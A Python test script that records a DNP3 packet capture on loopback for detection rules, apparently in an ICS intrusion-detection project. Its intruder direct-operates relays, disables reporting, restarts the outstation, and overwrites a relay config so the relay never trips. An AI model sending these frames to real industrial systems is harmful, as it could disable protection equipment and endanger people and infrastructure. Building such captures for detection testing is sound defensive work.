#!/usr/bin/env python3
"""Makes `rules/dnp3/captures/attack.pcap`: dnp3py against its own outstation.

    python3 tests/tools/capture_dnp3.py FILE.pcap

Masters and outstations run on loopback addresses, and `dumpcap` listens on `lo`, so it
needs the right to capture. What the stack does not send (files, applications,
authentication, broadcasts, frames with a wrong checksum) goes as raw bytes to the same
outstation, or to one that answers with what it was told. The capture is made once and
kept; the script says how, and makes another of the same shape.

    127.0.10.5   outstation 10, dnp3py
    127.0.10.6   outstation 11, answers as told
    127.0.20.5   master 1, reads and operates by select before operate
    127.0.30.9   intruder, says that it is master 1

Made with dnp3py 0.6.0 and Wireshark 4.0.
"""

import asyncio
import functools
import struct
import subprocess
import sys
import time

from dnp3.application.builder import (
    build_cold_restart_request,
    build_warm_restart_request,
)
from dnp3.database import (
    AnalogInputConfig,
    AnalogOutputConfig,
    BinaryInputConfig,
    BinaryOutputConfig,
    CounterConfig,
    Database,
)
from dnp3.master import DefaultSOEHandler, Master, MasterConfig, MasterTcpRunner
from dnp3.outstation import Outstation, OutstationConfig, OutstationTcpRunner

OUTSTATION, TOLD, MASTER, INTRUDER = "127.0.10.5", "127.0.10.6", "127.0.20.5", "127.0.30.9"
PORT = 20000


def outstation() -> OutstationTcpRunner:
    database = Database()
    for index in range(4):
        database.add_binary_input(index, BinaryInputConfig())
        database.add_binary_output(index, BinaryOutputConfig())
        database.add_analog_input(index, AnalogInputConfig())
        database.add_analog_output(index, AnalogOutputConfig())
        database.add_counter(index, CounterConfig())
    database.update_binary_input(1, value=True)
    database.update_analog_input(2, value=42)
    config = OutstationConfig(address=10)
    return OutstationTcpRunner(
        outstation=Outstation(database=database, config=config), host=OUTSTATION, port=PORT
    )


async def master(source: str) -> MasterTcpRunner:
    """A master of the stack that connects from an address, for which it has no setting."""
    plain = asyncio.open_connection
    asyncio.open_connection = functools.partial(plain, local_addr=(source, 0))
    config = MasterConfig(address=1, outstation_address=10)
    runner = MasterTcpRunner(
        master=Master(handler=DefaultSOEHandler(), config=config),
        host=OUTSTATION,
        port=PORT,
        response_timeout=2.0,
    )
    await runner.open()
    asyncio.open_connection = plain
    return runner


async def operate() -> None:
    """What happens all day."""
    runner = await master(MASTER)
    await runner.integrity_poll()
    await runner.class_poll()
    commands = runner.master.command_builder().pulse_on(1, on_time=500)
    await runner.request(runner.master.build_select(commands.build_select()))
    await runner.request(runner.master.build_operate(commands.build_operate()))
    analog = runner.master.command_builder().add_analog(2, 50)
    await runner.request(runner.master.build_select(analog.build_select()))
    await runner.request(runner.master.build_operate(analog.build_operate()))
    await runner.close()


async def attack() -> None:
    """What the stack can send."""
    runner = await master(INTRUDER)
    await runner.integrity_poll()
    commands = runner.master.command_builder().latch_off(0).latch_off(1)
    task = commands.build_direct_operate()
    await runner.request(runner.master.build_direct_operate(task))
    await runner.request(runner.master.build_operate(commands.build_operate()))
    analog = runner.master.command_builder().add_analog(2, 250)
    task = analog.build_direct_operate()
    await runner.request(runner.master.build_direct_operate(task))
    await runner.disable_unsolicited()
    for build in (build_cold_restart_request, build_warm_restart_request):
        sequence = runner.master.next_request_sequence()
        await runner.request(build(seq=sequence))
    await runner.close()


def crc(data: bytes) -> bytes:
    value = 0
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ 0xA6BC if value & 1 else value >> 1
    return struct.pack("<H", value ^ 0xFFFF)


def frame(control: int, destination: int, source: int, user: bytes) -> bytes:
    header = struct.pack("<BBBBHH", 5, 0x64, len(user) + 5, control, destination, source)
    blocks = [user[at : at + 16] for at in range(0, len(user), 16)]
    return header + crc(header) + b"".join(block + crc(block) for block in blocks)


def fragment(text: str, destination: int = 10, source: int = 1, control: int = 0xC4) -> bytes:
    """One frame that carries a whole fragment."""
    return frame(control, destination, source, b"\xc0" + bytes.fromhex(text))


def file_object(variation: int, octets: bytes) -> str:
    head = bytes([70, variation, 0x5B, 1]) + struct.pack("<H", len(octets))
    return (head + octets).hex()


def file_command(name: bytes, mode: int, size: int) -> str:
    fields = struct.pack("<HH6sHIIHHH", 26, len(name), bytes(6), 0x1FF, 0, size, mode, 512, 1)
    return file_object(3, fields + name)


def file_block(number: int, data: bytes) -> str:
    return file_object(5, struct.pack("<II", 7, number) + data)


def file_status(status: int, size: int = 0) -> str:
    return file_object(4, struct.pack("<IIHHB", 7, size, 512, 1, status))


LAST = 0x8000_0000
CONFIG = b"<config><relay trip='never'/></config>"
WRITTEN = file_object(6, struct.pack("<IIB", 7, LAST, 0))

# To the outstation of the stack, which answers as it can.
RAW = [
    # Device attributes, a time, a frozen and cleared counter, a saved configuration.
    fragment("C1 01 00FE00 0000"),
    fragment("C2 02 320107 01 0068E0C39A01"),
    fragment("C3 09 140006"),
    fragment("C4 13"),
    fragment("C5 16 3C0106 1E0006"),
    # A deadband is written so wide that nothing is reported.
    fragment("C6 02 220217 01 02 FFFFFF7F"),
    # An application is stopped, a function that no standard names is tried.
    fragment("C7 12 5A015B 01 0400 6D61696E"),
    fragment("C8 46"),
    # A relay of all outstations, nobody answers.
    fragment("C9 06 0C0117 01 00 04 01 00000000 00000000 00", destination=0xFFFF),
    # A response that a master never sends.
    fragment("CA 81 0000 010200 0000 01"),
    # Three points are counted, one is there; a block whose checksum does not hold.
    fragment("CB 05 0C0117 03 00 03 01 00000000 00000000 00"),
    fragment("CC 0D")[:-1] + b"\x00",
]

# To the outstation that answers as told.
TALK = [
    ("C0 19" + file_command(b"/relay.cfg", 1, 0xFFFFFFFF), "C0 81 0000" + file_status(0, 38)),
    ("C1 01" + file_block(0, b""), "C1 81 0000" + file_block(LAST, CONFIG)),
    ("C2 1A" + file_status(0), "C2 81 0000" + file_status(0)),
    ("C3 19" + file_command(b"/relay.cfg", 2, 38), "C3 81 0000" + file_status(0)),
    ("C4 02" + file_block(LAST, CONFIG), "C4 81 0000" + WRITTEN),
    ("C5 1A" + file_status(0), "C5 81 0000" + file_status(0)),
    ("C6 1B" + file_command(b"/events.log", 0, 0), "C6 81 0000" + file_status(0)),
    # A control is challenged, and the code is wrong.
    (
        "C7 05 0C0117 01 00 03 01 00000000 00000000 00",
        "C7 83 0000 78015B 01 0C00 01000000 0000 04 01 DEADBEEF",
    ),
    (
        "C7 20 78025B 01 1600 01000000 0100 00000000000000000000000000000000",
        "C7 81 0000 78075B 01 0F00 01000000 0100 0100 01 0068E0C39A01",
    ),
    # What the outstation holds is no longer what was configured.
    ("C8 01 3C0206", "C8 81 A020"),
]


async def raw() -> None:
    for data in RAW:
        # A connection each: the outstation closes some of them.
        reader, writer = await asyncio.open_connection(
            OUTSTATION, PORT, local_addr=(INTRUDER, 0)
        )
        writer.write(data)
        await writer.drain()
        try:
            await asyncio.wait_for(reader.read(512), 0.3)
        except (asyncio.TimeoutError, ConnectionError):
            pass
        writer.close()


async def told(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    for _, answer in TALK:
        if not await reader.read(1024):
            break
        writer.write(fragment(answer, destination=1, source=11, control=0x44))
        await writer.drain()
    writer.close()


async def talk() -> None:
    reader, writer = await asyncio.open_connection(TOLD, PORT, local_addr=(INTRUDER, 0))
    for request, _ in TALK:
        writer.write(fragment(request, destination=11))
        await writer.drain()
        await asyncio.wait_for(reader.read(1024), 1)
    writer.close()


async def play() -> None:
    runner = outstation()
    serving = asyncio.create_task(runner.run())
    server = await asyncio.start_server(told, TOLD, PORT)
    await asyncio.sleep(0.5)
    await operate()
    await attack()
    await raw()
    await talk()
    server.close()
    serving.cancel()


def main() -> None:
    [path] = sys.argv[1:]
    listen = ["dumpcap", "-q", "-P", "-i", "lo", "-f", f"tcp port {PORT}", "-w", path]
    capture = subprocess.Popen(listen, stderr=subprocess.DEVNULL)
    time.sleep(1.5)
    try:
        asyncio.run(play())
        time.sleep(1.5)
    finally:
        capture.terminate()
        capture.wait()


if __name__ == "__main__":
    main()
